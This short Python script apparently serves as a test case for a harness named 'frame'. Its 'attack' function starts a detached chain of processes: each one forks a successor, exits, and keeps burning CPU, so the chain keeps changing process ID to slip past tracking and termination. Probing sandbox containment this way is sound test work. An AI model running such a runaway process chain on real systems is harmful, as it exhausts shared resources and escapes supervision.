"""Starts a process that starts the next and ends, and so on, each at work until it has."""

import os
import zlib

from frame import play


def attack():
    if os.fork() == 0:
        block = bytes(50_000)
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass  # who is still on its way out counts
            zlib.crc32(block)
    return "forks"


play(attack)
